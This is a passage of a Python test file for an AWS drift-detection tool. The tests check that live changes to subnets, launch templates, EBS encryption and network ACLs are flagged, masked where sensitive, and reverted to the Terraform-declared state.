    assert all((c.declared, c.live, c.severity) == (True, False, Severity.MEDIUM) for c in finding.changes)
    assert rule in {c.rule for c in finding.changes}
    params = [c.params for c in finding.plan]
    assert params[0] == {"VpcId": vpc, api[attrs[-1]]: {"Value": True}}, "DNS support comes back first"
    assert_reverts(pipeline, finding, replay)


def test_subnet_auto_assigning_public_ips_is_high_and_reverted(net):
    subnet = net.ec2.create_subnet(VpcId=net.vpc, CidrBlock="10.0.9.0/24", AvailabilityZone="us-east-1b")
    sid = subnet["Subnet"]["SubnetId"]
    pipeline = deploy(net, StateBuilder().add("aws_subnet", "private_b", {
        "arn": arn("subnet", sid), "assign_ipv6_address_on_creation": False,
        "availability_zone": "us-east-1b",
        "availability_zone_id": "use1-az2", "cidr_block": "10.0.9.0/24", "customer_owned_ipv4_pool": "",
        "enable_dns64": False, "enable_lni_at_device_index": 0,
        "enable_resource_name_dns_a_record_on_launch": False,
        "enable_resource_name_dns_aaaa_record_on_launch": False, "id": sid, "ipv6_cidr_block": "",
        "ipv6_cidr_block_association_id": "", "ipv6_native": False, "map_customer_owned_ip_on_launch": False,
        "map_public_ip_on_launch": False, "outpost_arn": "", "owner_id": ACCOUNT,
        "private_dns_hostname_type_on_launch": "ip-name", "tags": None, "tags_all": {}, "timeouts": None,
        "vpc_id": net.vpc}))
    net.ec2.modify_subnet_attribute(SubnetId=sid, MapPublicIpOnLaunch={"Value": True})
    replay = event("ModifySubnetAttribute", {"subnetId": sid, "mapPublicIpOnLaunch": {"value": True}})
    [finding] = pipeline.process_event(replay)
    assert [(c.path, c.declared, c.live, c.severity, c.rule) for c in finding.changes] == [
        ("map_public_ip_on_launch", False, True, Severity.HIGH, "subnet-assigns-public-ips")]
    assert [c.params for c in finding.plan] == [{"SubnetId": sid, "MapPublicIpOnLaunch": {"Value": False}}]
    assert_reverts(pipeline, finding, replay)


# --- aws_launch_template --------------------------------------------------------------------------
LT_DATA = {"ImageId": "ami-0a1b2c3d4e5f60718", "InstanceType": "t3.micro",
           "MetadataOptions": {"HttpTokens": "required", "HttpEndpoint": "enabled",
                               "HttpPutResponseHopLimit": 1}}


def launch_template(net: Net) -> tuple[str, StateBuilder]:
    name = f"web-{next(_keys)}"
    lt = net.ec2.create_launch_template(LaunchTemplateName=name, LaunchTemplateData={
        **LT_DATA, "SecurityGroupIds": [net.sg_app]})["LaunchTemplate"]["LaunchTemplateId"]
    attrs = {
        "arn": arn("launch-template", lt), "block_device_mappings": [],
        "capacity_reservation_specification": [],
        "cpu_options": [], "credit_specification": [], "default_version": 1, "description": "",
        "disable_api_stop": False, "disable_api_termination": False, "ebs_optimized": "",
        "enclave_options": [],
        "hibernation_options": [], "iam_instance_profile": [], "id": lt, "image_id": LT_DATA["ImageId"],
        "instance_initiated_shutdown_behavior": "", "instance_market_options": [],
        "instance_type": "t3.micro",
        "kernel_id": "", "key_name": "", "latest_version": 1, "license_specification": [],
        "maintenance_options": [],
        "metadata_options": [{"http_endpoint": "enabled", "http_protocol_ipv6": "",
                              "http_put_response_hop_limit": 1, "http_tokens": "required",
                              "instance_metadata_tags": ""}],
        "monitoring": [], "name": name, "name_prefix": "", "network_interfaces": [], "placement": [],
        "private_dns_name_options": [], "ram_disk_id": "", "security_group_names": [],
        "tag_specifications": [],
        "tags": None, "tags_all": {}, "update_default_version": None, "user_data": "",
        "vpc_security_group_ids": [net.sg_app]}
    return lt, StateBuilder().add("aws_launch_template", "web", attrs)


def test_new_default_version_with_another_ami_is_high_and_reverted(net):
    lt, state = launch_template(net)
    pipeline = deploy(net, state)
    data = {**LT_DATA, "ImageId": "ami-0badbadbadbadbad0", "SecurityGroupIds": [net.sg_app]}
    net.ec2.create_launch_template_version(LaunchTemplateId=lt, SourceVersion="1", LaunchTemplateData=data)
    net.ec2.modify_launch_template(LaunchTemplateId=lt, DefaultVersion="2")
    replay = event("ModifyLaunchTemplate", {"ModifyLaunchTemplateRequest": {"LaunchTemplateId": lt,
                                                                            "SetDefaultVersion": "2"}},
                   {"ModifyLaunchTemplateResponse": {"launchTemplate": {"launchTemplateId": lt,
                                                                        "defaultVersionNumber": 2}}})
    [finding] = pipeline.process_event(replay)
    assert [(c.path, c.declared, c.live, c.rule) for c in finding.changes] == [
        ("default_version", 1, 2, "default-version-changed"),
        ("image_id", LT_DATA["ImageId"], "ami-0badbadbadbadbad0", "ami-changed")]
    assert finding.severity is Severity.HIGH
    assert [c.operation for c in finding.plan] == ["CreateLaunchTemplateVersion", "ModifyLaunchTemplate"]
    assert finding.plan[0].params["SourceVersion"] == "1"
    assert_reverts(pipeline, finding, replay)
    versions = net.ec2.describe_launch_template_versions(LaunchTemplateId=lt)["LaunchTemplateVersions"]
    assert len(versions) == 3, "a revert adds a version; it never deletes one"


def test_user_data_in_a_new_version_is_high_and_masked(net):
    lt, state = launch_template(net)
    pipeline = deploy(net, state)
    secret = base64.b64encode(b"#!/bin/bash\nexport DB_PASSWORD=hunter2\n").decode()
    net.ec2.create_launch_template_version(LaunchTemplateId=lt, LaunchTemplateData={
        **LT_DATA, "SecurityGroupIds": [net.sg_app], "UserData": secret})
    [finding] = pipeline.process_event(event(
        "CreateLaunchTemplateVersion",
        {"CreateLaunchTemplateVersionRequest": {"LaunchTemplateId": lt, "LaunchTemplateData": {
            "UserData": "<sensitiveDataRemoved>"}}},
        {"CreateLaunchTemplateVersionResponse": {"launchTemplateVersion": {"launchTemplateId": lt,
                                                                           "versionNumber": 2}}}))
    [change] = finding.changes
    assert (change.path, change.severity, change.rule, change.sensitive) == (
        "user_data", Severity.HIGH, "user-data-changed", True)
    assert change.to_dict() == {"path": "user_data", "declared": None, "live": "********"}
    assert "hunter2" not in str([c.to_dict() for c in finding.plan])


# --- aws_ebs_encryption_by_default ---------------------------------------------------------------
def test_ebs_encryption_by_default_disabled_is_high_and_reverted(net):
    net.ec2.enable_ebs_encryption_by_default()
    pipeline = deploy(net, StateBuilder().add("aws_ebs_encryption_by_default", "this",
                                              {"enabled": True, "id": REGION}))
    net.ec2.disable_ebs_encryption_by_default()
    replay = event("DisableEbsEncryptionByDefault", None, None)
    [finding] = pipeline.process_event(replay)
    assert finding.resource.id == EBS_DEFAULT_KEY
    assert [(c.path, c.declared, c.live, c.severity, c.rule) for c in finding.changes] == [
        ("enabled", True, False, Severity.HIGH, "ebs-encryption-by-default-disabled")]
    assert [c.operation for c in finding.plan] == ["EnableEbsEncryptionByDefault"]
    assert_reverts(pipeline, finding, replay)
    assert net.ec2.get_ebs_encryption_by_default()["EbsEncryptionByDefault"] is True


def test_ebs_encryption_by_default_is_judged_for_the_events_region_only(net):
    """Only us-east-1 is declared: eu-west-1 turned off is not compared with us-east-1's declaration."""
    pipeline = deploy(net, StateBuilder().add("aws_ebs_encryption_by_default", "this",
                                              {"enabled": True, "id": REGION}))
    net.session.client("ec2", region_name="eu-west-1").disable_ebs_encryption_by_default()
    net.ec2.enable_ebs_encryption_by_default()
    [elsewhere] = pipeline.process_event(event("DisableEbsEncryptionByDefault", None, None,
                                               region="eu-west-1"))
    assert elsewhere.status is Status.IN_SYNC and not elsewhere.changes


# --- batched reads (the scheduled scan) --------------------------------------------------------------
def test_batched_reads_match_single_reads_and_tolerate_missing_ids(net):
    rt, _ = route_table(net)
    ctx = make_pipeline(net.session, f"s3://{BUCKET}/none/").contexts(ACCOUNT, REGION)
    registry = default_registry()
    for tf_type, present, missing in (("aws_route_table", rt, "rtb-0000000000000000f"),
                                      ("aws_subnet", net.subnet, "subnet-0000000000000000f")):
        plugin = registry.get(tf_type)
        many = plugin.read_live_many(ctx, [present, missing])
        assert many == {present: plugin.read_live(ctx, present), missing: None}, tf_type
        assert many[present], tf_type


def test_batched_acl_read_uses_one_filtered_call(net):
    """Stubber: moto has no ``network-acl-id`` filter (AWS documents it). The answer is AWS-shaped."""
    acl, missing = "acl-0a1b2c3d4e5f60718", "acl-0000000000000000f"
    client = net.session.client("ec2", region_name=REGION)
    stub = Stubber(client)
    stub.add_response("describe_network_acls", {"NetworkAcls": [{
        "NetworkAclId": acl, "VpcId": net.vpc, "IsDefault": False, "OwnerId": ACCOUNT, "Associations": [],
        "Tags": [{"Key": "Name", "Value": "private"}],
        "Entries": [
            {"RuleNumber": 100, "Protocol": "6", "RuleAction": "allow", "Egress": False,
             "CidrBlock": "10.0.0.0/8", "PortRange": {"From": 443, "To": 443}},
            {"RuleNumber": 32767, "Protocol": "-1", "RuleAction": "deny", "Egress": False,
             "CidrBlock": "0.0.0.0/0"},
            {"RuleNumber": 32767, "Protocol": "-1", "RuleAction": "deny", "Egress": True,
             "CidrBlock": "0.0.0.0/0"}]}]},
        {"Filters": [{"Name": "network-acl-id", "Values": [acl, missing]}]})

    class Ctx:
        account, region = ACCOUNT, REGION

        def client(self, service: str) -> Any:
            return client

    with stub:
        many = default_registry().get("aws_network_acl").read_live_many(Ctx(), [acl, missing])
    assert many == {missing: None, acl: {
        "ingress": {100: {"rule_no": 100, "action": "allow", "protocol": "6", "cidr_block": "10.0.0.0/8",
                          "from_port": 443, "to_port": 443}},
        "egress": {}, "tags": {"Name": "private"}}}


# --- routing of shared EC2 events -----------------------------------------------------------------
def test_create_tags_routes_each_id_to_the_plugin_owning_its_prefix():
    raw = json.loads((FIXTURES / "ec2-CreateTags-vpc-family.json").read_text())
    refs = resolve_refs(default_registry(), parse_event(raw))
    assert sorted((r.object_kind, r.object_id) for r in refs) == sorted([
        ("ec2:instance", "i-0a1b2c3d4e5f60718"), ("ec2:volume", "vol-0a1b2c3d4e5f60718"),
        ("ec2:network-acl", "acl-0a1b2c3d4e5f60718"), ("ec2:route-table", "rtb-0a1b2c3d4e5f60718"),
        ("ec2:vpc", "vpc-0a1b2c3d4e5f60718"), ("ec2:subnet", "subnet-0a1b2c3d4e5f60718"),
        ("ec2:launch-template", "lt-0a1b2c3d4e5f60718")])
    assert all(r.event_kind is EventKind.MODIFY for r in refs)


def test_revert_plans_never_name_a_resource_delete():
    """The only deletes a family plan may hold remove an entry, a route or a tag."""
    allowed = {"DeleteNetworkAclEntry", "DeleteRoute", "DeleteTags"}
    for tf_type in ("aws_instance", "aws_ebs_volume", "aws_network_acl", "aws_route_table", "aws_vpc",
                    "aws_subnet", "aws_launch_template", "aws_ebs_encryption_by_default"):
        plugin = default_registry().get(tf_type)
        for action in plugin.revert_permissions:
            op = action.split(":", 1)[1]
            assert not op.startswith(("Delete", "Terminate")) or op in allowed, (tf_type, action)
